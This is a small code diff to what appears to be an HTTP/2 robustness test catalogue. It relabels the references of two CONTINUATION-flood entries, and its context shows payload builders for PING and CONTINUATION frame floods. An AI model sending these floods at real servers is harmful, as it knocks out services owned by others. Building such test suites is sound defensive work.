@@ -160,13 +160,13 @@ extension AttackCatalogue {
         http2("flood/ping", "10,000 PINGs", "RFC 9113 section 10.5", .high, .connectionError) { _ in
             H2.opening() + (0..<10_000).flatMap { _ in H2.frame(.ping, stream: 0, Array(repeating: 0, count: 8)) }
         },
-        http2("flood/continuation", "CONTINUATION without end", "CVE-2024-24549", .critical, .connectionError) { site in
+        http2("flood/continuation", "CONTINUATION without end", "CERT VU#421644", .critical, .connectionError) { site in
             H2.opening() + H2.headers(1, pseudo(site), flags: H2.endStream)
                 + (0..<2_000).flatMap {
                     H2.frame(.continuation, stream: 1, H2.block([("x-\($0)", String(repeating: "x", count: 500))]))
                 }
         },
-        http2("flood/continuation-empty", "empty CONTINUATION frames", "CVE-2024-24549", .high, .connectionError) {
+        http2("flood/continuation-empty", "empty CONTINUATION frames", "CERT VU#421644", .high, .connectionError) {
             site in
             H2.opening() + H2.headers(1, pseudo(site), flags: H2.endStream)
                 + (0..<20_000).flatMap { _ in H2.frame(.continuation, stream: 1) }
